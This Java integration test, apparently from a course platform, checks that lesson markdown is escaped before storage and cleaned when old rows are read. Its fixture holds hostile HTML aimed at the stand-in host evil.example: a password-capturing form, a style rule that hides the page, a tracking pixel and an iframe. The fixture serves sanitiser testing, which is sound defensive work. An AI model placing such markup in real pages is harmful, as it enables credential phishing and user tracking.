package org.academy.course;

import org.academy.testing.Fixtures;
import org.academy.testing.Fixtures.World;
import org.academy.testing.IntegrationTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.academy.testing.Actors.as;
import static org.assertj.core.api.Assertions.assertThat;

@IntegrationTest
class LessonContentSanitisingTest {

    private static final String HOSTILE = """
            # Step

            <style>body { display: none }</style>
            <form action="https://evil.example"><input type="password" name="pw"></form>
            ![pixel](https://evil.example/p.gif)

            ```html
            <p>code stays</p>
            ```
            """;

    @Autowired
    CourseService courses;
    @Autowired
    Fixtures fixtures;
    @Autowired
    JdbcClient jdbc;

    World w;

    @BeforeEach
    void setUp() {
        w = fixtures.world(1, 1);
    }

    @Test
    void an_authors_raw_html_is_escaped_before_it_is_stored_and_code_is_kept() {
        CourseOutline draft = as(w.admin(), () -> courses.createDraft("Sanitised " + System.nanoTime(), ""));
        LessonContent added = as(w.admin(), () -> courses.addLesson(draft.id(), new NewLesson("Step", 10, HOSTILE)));
        String stored = jdbc.sql("select content_md from lesson where id = ?").param(added.id()).query(String.class).single();
        assertThat(stored).doesNotContain("<style", "<form", "<input").doesNotContainPattern("(?<!\\\\)!\\[pixel")
                .contains("&lt;style>", "\\![pixel](https://evil.example/p.gif)", "<p>code stays</p>");

        LessonContent edited = as(w.admin(), () -> courses.editLesson(draft.id(), added.id(),
                new NewLesson("Step", 10, "<iframe src=\"https://evil.example\"></iframe>")));
        assertThat(edited.markdown()).isEqualTo("&lt;iframe src=\"https://evil.example\">&lt;/iframe>");
        assertThat(jdbc.sql("select content_md from lesson where id = ?").param(added.id()).query(String.class).single())
                .isEqualTo(edited.markdown());
    }

    @Test
    void content_stored_before_cleaning_existed_is_read_cleaned() {
        CourseOutline draft = as(w.admin(), () -> courses.createDraft("Old " + System.nanoTime(), ""));
        LessonContent added = as(w.admin(), () -> courses.addLesson(draft.id(), new NewLesson("Step", 10, "# Step")));
        // As a row written by an older version would be.
        jdbc.sql("update lesson set content_md = ? where id = ?").params(HOSTILE, added.id()).update();

        LessonContent read = as(w.admin(), () -> courses.lesson(draft.id(), added.id()));
        assertThat(read.markdown()).isEqualTo(LessonMarkdown.clean(HOSTILE)).doesNotContain("<style", "<form");
    }
}
